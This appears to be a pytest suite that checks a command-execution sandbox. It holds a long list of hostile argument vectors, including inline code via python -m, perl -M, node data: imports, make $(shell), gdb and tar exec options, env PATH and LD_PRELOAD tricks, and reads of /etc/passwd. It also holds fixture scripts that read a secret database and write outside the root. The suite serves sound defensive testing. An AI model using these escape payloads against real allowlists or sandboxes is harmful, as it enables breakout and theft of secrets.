"""code_exec attack families from the outside test of issue 12: inline code through options other than -c/-e
(python -m, perl -M, node --import=data:, npm exec, make $(shell), gdb --eval-command), tar's checkpoint
actions, abbreviated long options, long and glued short options (-C/abs), env NAME=VALUE re-resolving the
program, and scripts in the code root that try to escape on their own.

Whatever happens to each call (refused by the checks, or run inside the sandbox), nothing is written outside the
code root and the workspace database is never read: its secret appears in no output and no file of the root.
"""

from __future__ import annotations

import stat
from pathlib import Path

import pytest

from plandesk.connector import shell
from plandesk.connector.paths import CodeRoot
from plandesk.core.errors import PlanDeskError

SECRET = "SECRET-ROW-role-owner-7f3a"
ALLOW = [
    "echo",
    "ls",
    "cat",
    "head",
    "python3",
    "perl",
    "node",
    "npm",
    "make",
    "gdb",
    "tar",
    "env",
    "sort",
    "zip",
    "rsync",
    "cp",
    "tee",
    "sed",
    "awk",
    "find",
    "xargs",
    "timeout",
    "nice",
    "grep",
]
# {C}: canary file outside the root; {O}: a directory outside; {D}: the workspace database; {R}: the root.
PY_WRITE = "open('{C}','w').write('x')"
JS_WRITE = "require('fs').writeFileSync('{C}','x')"
JS_ESM = "fs.writeFileSync('{C}','x')"
INLINE = [
    ("python_m_timeit", ["python3", "-m", "timeit", PY_WRITE]),
    ("python_m_glued", ["python3", "-mtimeit", PY_WRITE]),
    ("python_m_in_cluster", ["python3", "-Im", "timeit", PY_WRITE]),
    ("python_m_after_options", ["python3", "-X", "importtime", "-W", "ignore", "-m", "timeit", PY_WRITE]),
    ("python_m_zipfile_extract_outside", ["python3", "-m", "zipfile", "-e", "evil.zip", "{O}"]),
    ("python_m_cprofile_output", ["python3", "-m", "cProfile", "-o", "{C}", "keep.py"]),
    ("python_m_base64_of_db", ["python3", "-m", "base64", "{D}"]),
    ("python_m_runpy", ["python3", "-m", "runpy", "keep"]),
    ("python_m_code", ["python3", "-m", "code"]),
    ("python_m_http_server", ["python3", "-m", "http.server", "8999"]),
    ("python_m_pdb_commands", ["python3", "-m", "pdb", "-c", "import os;os.system('touch {C}')", "keep.py"]),
    ("python_m_compileall_outside", ["python3", "-m", "compileall", "{O}"]),
    ("perl_M_code", ["perl", "-Mstrict;system(q{touch {C}})", "keep.pl"]),
    ("perl_M_minus", ["perl", "-M-warnings;open(F,q{>{C}})", "keep.pl"]),
    ("perl_m_code", ["perl", "-mPOSIX=1;system(q{touch {C}})", "keep.pl"]),
    ("perl_M_in_cluster", ["perl", "-wMPOSIX;system(q{touch {C}})", "keep.pl"]),
    ("perl_d_module_code", ["perl", "-d:Trace;system(q{touch {C}})", "keep.pl"]),
    ("perl_M_reads_db", ["perl", "-Mv5.10;print(`cat {D}`)", "keep.pl"]),
    (
        "node_import_data_url",
        ["node", "--import=data:text/javascript,import fs from 'fs';" + JS_ESM, "keep.js"],
    ),
    (
        "node_import_data_separate",
        ["node", "--import", "data:text/javascript,import fs from 'fs';" + JS_ESM, "keep.js"],
    ),
    ("node_loader_data", ["node", "--experimental-loader=data:text/javascript,export {}", "keep.js"]),
    ("node_loader_separate", ["node", "--loader", "data:text/javascript,export {}", "keep.js"]),
    ("node_require_data", ["node", "-r", "data:text/javascript," + JS_WRITE, "keep.js"]),
    ("node_print", ["node", "--print", JS_WRITE]),
    ("node_eval_equals", ["node", "--eval=" + JS_WRITE]),
    ("node_pe_cluster", ["node", "-pe", JS_WRITE]),
    ("node_import_https", ["node", "--import=https://example.com/x.mjs", "keep.js"]),
    ("npm_exec", ["npm", "exec", "--", "touch", "{C}"]),
    ("npm_x_call", ["npm", "x", "-c", "touch {C}"]),
    ("npm_exec_call_equals", ["npm", "exec", "--call=touch {C}"]),
    ("npm_call_before_exec", ["npm", "--call", "touch {C}", "exec"]),
    ("npm_explore", ["npm", "explore", "lodash", "--", "touch {C}"]),
    ("npm_init_runs_create", ["npm", "init", "evil"]),
    ("make_shell_in_variable", ["make", "X=$(shell touch {C})"]),
    ("make_file_function", ["make", "X=$(file >{C},x)"]),
    ("make_eval_abbreviated_equals", ["make", "--eva=$(shell touch {C})"]),
    ("make_eval_abbreviated", ["make", "--ev", "$(shell touch {C})"]),
    ("make_E", ["make", "-E", "$(shell touch {C})"]),
    ("make_E_in_cluster", ["make", "-sE", "$(shell touch {C})"]),
    ("make_backticks", ["make", "X=`touch {C}`"]),
    ("make_file_outside", ["make", "-f", "{D}"]),
    ("make_chdir_glued", ["make", "-C{O}"]),
    ("gdb_ex", ["gdb", "-batch", "-ex", "shell touch {C}"]),
    ("gdb_eval_command_equals", ["gdb", "--batch", "--eval-command=shell touch {C}"]),
    ("gdb_eval_command_abbreviated", ["gdb", "-batch", "-eval-c", "shell touch {C}"]),
    ("gdb_ev_double_dash", ["gdb", "-batch", "--ev=shell touch {C}"]),
    ("gdb_iex", ["gdb", "-batch", "-iex", "shell touch {C}"]),
    ("gdb_command_file", ["gdb", "-batch", "-x", "cmds.gdb"]),
    ("gdb_init_command", ["gdb", "-batch", "--init-command=cmds.gdb"]),
]
ABBREVIATED = [
    (
        "tar_checkpoint_action_abbreviated",
        ["tar", "-cf", "x.tar", "--checkpoint=1", "--checkpoint-a=exec=touch {C}", "keep.txt"],
    ),
    (
        "tar_checkpoint_act",
        ["tar", "-cf", "x.tar", "--checkpoint=1", "--checkpoint-act=exec=touch {C}", "keep.txt"],
    ),
    ("tar_to_command_abbreviated", ["tar", "-cf", "/dev/null", "--to-com=touch {C}", "keep.txt"]),
    ("tar_use_compress_abbreviated", ["tar", "-cf", "x.tar", "--use-comp=touch {C}", "keep.txt"]),
    ("tar_use_compress_separate", ["tar", "-cf", "x.tar", "--use-compress-prog", "touch {C}", "keep.txt"]),
    ("tar_long_cluster_I", ["tar", "-cvvvvvvvvvIf", "touch {C}", "x.tar", "keep.txt"]),
    ("tar_I_glued", ["tar", "-cf", "x.tar", "-Itouch {C}", "keep.txt"]),
    ("tar_info_script_abbreviated", ["tar", "--info-s=touch {C}", "-cf", "x.tar", "keep.txt"]),
    ("tar_new_volume_abbreviated", ["tar", "--new-vol=touch {C}", "-cf", "x.tar", "keep.txt"]),
    ("tar_rsh_command_abbreviated", ["tar", "--rsh-c=touch {C}", "-cf", "host:x.tar", "keep.txt"]),
    ("tar_absolute_names_abbreviated", ["tar", "-cf", "x.tar", "--absolute-n", "{D}"]),
    ("tar_chdir_glued_root", ["tar", "-C/", "-cf", "x.tar", "etc/passwd"]),
    ("tar_extract_glued_outside", ["tar", "-xf", "x.tar", "-C{O}"]),
    ("tar_file_glued_outside", ["tar", "-cf{O}/x.tar", "keep.txt"]),
    ("tar_old_style_cluster_P", ["tar", "cPf", "x.tar", "{D}"]),
    ("sort_compress_abbreviated", ["sort", "--compress-p=touch", "-S", "1", "keep.txt"]),
    ("sort_output_glued", ["sort", "-o{C}", "keep.txt"]),
    ("sort_output_equals", ["sort", "--output={C}", "keep.txt"]),
    ("sort_temp_glued", ["sort", "-T{O}", "keep.txt"]),
    ("zip_TT", ["zip", "-TT", "touch {C}", "x.zip", "keep.txt"]),
    ("zip_unzip_command_abbreviated", ["zip", "--unzip-c=touch {C}", "-T", "x.zip", "keep.txt"]),
    ("zip_T_in_cluster", ["zip", "-qT", "x.zip", "keep.txt"]),
    ("rsync_rsh_abbreviated", ["rsync", "--rs=touch {C}", "keep.txt", "host:x"]),
    ("rsync_e_glued", ["rsync", "-etouch", "keep.txt", "host:x"]),
    ("rsync_e_in_cluster", ["rsync", "-avetouch", "keep.txt", "host:x"]),
    ("cp_target_glued", ["cp", "-t{O}", "keep.txt"]),
    ("cp_target_separate", ["cp", "-t", "{O}", "keep.txt"]),
    ("cp_db_into_root", ["cp", "{D}", "stolen.db"]),
    ("tee_outside", ["tee", "{C}"]),
    ("sed_w_in_expression", ["sed", "-i.bak", "-e", "w {C}", "keep.txt"]),
    ("sed_read_db", ["sed", "r {D}", "keep.txt"]),
    ("env_path_to_root", ["env", "PATH={R}", "ls"]),
    ("env_path_dot", ["env", "PATH=.", "ls"]),
    ("env_chdir_glued", ["env", "-C{O}", "ls"]),
    ("env_chdir_equals", ["env", "--chdir={O}", "ls"]),
    ("env_ld_preload", ["env", "LD_PRELOAD={R}/x.so", "ls"]),
    ("env_node_options", ["env", "NODE_OPTIONS=--import=data:text/javascript,export {}", "node", "keep.js"]),
    ("env_perl5opt", ["env", "PERL5OPT=-Mstrict;system(q{touch {C}})", "perl", "keep.pl"]),
    ("env_pythonpath", ["env", "PYTHONPATH={O}", "python3", "keep.py"]),
    ("env_unset_then_path", ["env", "-u", "HOME", "PATH=.", "ls"]),
    ("env_ignore_environment_path", ["env", "-i", "PATH=.", "ls"]),
    ("nice_env_path", ["nice", "-n5", "env", "PATH=.", "ls"]),
    ("timeout_env_path", ["timeout", "5", "env", "PATH=.", "ls"]),
    ("xargs_arg_file_glued", ["xargs", "-a{D}", "echo"]),
    ("xargs_arg_file_equals", ["xargs", "--arg-file={D}", "echo"]),
    ("find_from_root", ["find", "/", "-name", "workspace.db"]),
    ("find_fls", ["find", ".", "-fls", "{C}"]),
    ("find_fprint0", ["find", ".", "-fprint0", "{C}"]),
    ("cat_db", ["cat", "{D}"]),
    ("cat_option_glued_db", ["cat", "-A{D}"]),
    ("head_count_glued_db", ["head", "-c100", "{D}"]),
    ("grep_file_glued", ["grep", "-f{D}", "keep.txt"]),
    ("grep_recursive_outside", ["grep", "-r", SECRET, "{O}/.."]),
]
# Allowed by the checks on purpose (scripts in the root): the sandbox is what holds them.
CONTAINED = [
    ("python_script_escapes", ["python3", "escape.py"]),
    ("perl_script_escapes", ["perl", "escape.pl"]),
    ("node_script_escapes", ["node", "escape.js"]),
    ("make_file_in_root_shells_out", ["make", "-f", "escape.mk"]),
    ("awk_file_in_root_system", ["awk", "-f", "escape.awk", "keep.txt"]),
    ("python_unittest_module_escapes", ["python3", "-m", "unittest", "escape_test"]),
]
CASES = INLINE + ABBREVIATED + CONTAINED


@pytest.fixture
def box(tmp_path: Path):
    root = tmp_path / "root"
    root.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    data = tmp_path / "data"
    data.mkdir()
    db = data / "workspace.db"
    db.write_text(f"SQLite format 3\0 users: {SECRET}\n")
    canary = tmp_path / "CANARY-OUTSIDE"
    (root / "keep.txt").write_text("line one\n")
    (root / "keep.py").write_text("print('keep')\n")
    (root / "keep.pl").write_text("1;\n")
    (root / "keep.js").write_text("console.log('keep')\n")
    (root / "cmds.gdb").write_text(f"shell touch {canary}\n")
    (root / "ls").write_text(f"#!/bin/sh\ntouch '{canary}'\ncat '{db}'\n")
    (root / "ls").chmod(0o755)
    escape = (
        f"import shutil\nopen('{canary}','w').write('x')\n"
        f"try:\n    shutil.copy('{db}', 'stolen.db')\nexcept OSError:\n    pass\n"
        f"print(open('{db}').read())\n"
    )
    (root / "escape.py").write_text(escape)
    (root / "escape_test.py").write_text(escape)
    (root / "escape.pl").write_text(f"open(F, '>', '{canary}'); open(D, '<', '{db}') && print <D>;\n")
    (root / "escape.js").write_text(
        f"const fs = require('fs'); try {{ fs.writeFileSync('{canary}', 'x') }} "
        f"catch (e) {{}}; console.log(fs.readFileSync('{db}', 'utf8'))\n"
    )
    (root / "escape.mk").write_text(f"X := $(shell touch {canary}; cat {db})\nall:\n\t@echo $(X)\n")
    (root / "escape.awk").write_text(f'BEGIN {{ system("touch {canary}; cat {db}") }}\n')
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]\n")
    return root, outside, db, canary


def _fill(value, root: Path, outside: Path, db: Path, canary: Path):
    if isinstance(value, list):
        return [_fill(v, root, outside, db, canary) for v in value]
    return (
        value.replace("{C}", str(canary))
        .replace("{O}", str(outside))
        .replace("{D}", str(db))
        .replace("{R}", str(root))
    )


def _root_files_mention_secret(root: Path) -> list[str]:
    found = []
    for p in root.rglob("*"):
        if p.is_file() and not p.is_symlink() and SECRET.encode() in p.read_bytes():
            found.append(str(p.relative_to(root)))
    return found


@pytest.mark.parametrize("case,attack", CASES, ids=[c for c, _ in CASES])
def test_no_write_outside_the_root_and_no_read_of_the_workspace_database(box, case, attack):
    root, outside, db, canary = box
    before = db.read_bytes()
    argv = _fill(attack, root, outside, db, canary)
    try:
        result = shell.run_exec(CodeRoot(str(root)), argv, allowlist=ALLOW, timeout_s=20)
    except PlanDeskError as exc:
        assert exc.code in ("forbidden", "invalid_argument", "not_found"), exc.code
        output = exc.message
    else:
        assert result["sandbox"] == "bubblewrap"
        output = result["stdout"] + result["stderr"]
    assert SECRET not in output, f"{case}: the workspace database was read"
    assert _root_files_mention_secret(root) == [], f"{case}: the workspace database was copied into the root"
    assert not canary.exists(), f"{case}: a file was written outside the code root"
    assert list(outside.iterdir()) == [], f"{case}: a file was written outside the code root"
    assert db.read_bytes() == before
    assert (root / ".git" / "config").read_text() == "[core]\n"


def test_the_contained_cases_really_ran_inside_the_sandbox(box):
    root, _outside, _db, canary = box
    result = shell.run_exec(CodeRoot(str(root)), ["python3", "escape.py"], allowlist=ALLOW, timeout_s=20)
    assert result["exit_code"] != 0
    assert "No such file or directory" in result["stderr"]
    assert not canary.exists()


def test_the_suite_covers_at_least_the_families_of_the_finding():
    families = {c.split("_")[0] for c, _ in INLINE + ABBREVIATED}
    assert {
        "python",
        "perl",
        "node",
        "npm",
        "make",
        "gdb",
        "tar",
        "env",
        "sort",
        "zip",
        "rsync",
        "cp",
    } <= families
    assert len(INLINE + ABBREVIATED) >= 75
    assert stat.S_ISDIR(Path("/usr").stat().st_mode)
